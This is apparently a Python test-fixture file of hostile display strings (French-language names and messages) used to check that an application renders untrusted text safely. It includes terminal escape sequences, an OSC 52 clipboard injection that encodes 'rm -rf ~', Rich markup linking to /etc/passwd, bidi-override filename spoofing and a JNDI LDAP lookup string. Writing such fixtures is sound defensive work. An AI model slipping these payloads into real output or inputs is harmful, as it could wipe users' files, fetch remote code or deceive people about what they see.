"""Text that attacks whoever displays it: it must arrive in the target exactly, and reach no terminal raw."""

from __future__ import annotations

NAMES = (
    "\x1b[2J\x1b[31mMallory\x1b[0m \x1b]0;titre volé\x07",
    "[bold red]Paul[/] [link=file:///etc/passwd]cliquez[/link] [@click=app.quit]ici[/]",
    "Zoé \u202eexe.gnp\u202c\u2066 Martin\u2069",
)

CONTENTS = (
    "Le terminal affiche : \x1b[31mERREUR\x1b[0m\r\x1b[1A\x1b]52;c;cm0gLXJmIH4=\x07 et puis plus rien.",
    "[bold red]x[/] [/] [[gras]] \\[fin] ${jndi:ldap://x.example/a} \u202eenversé\u202c \ufeff\x9b31m\x7f",
)

WITH_NUL = "Le journal s'arrête net ici : « connexion\x00perdue », copié depuis le terminal."
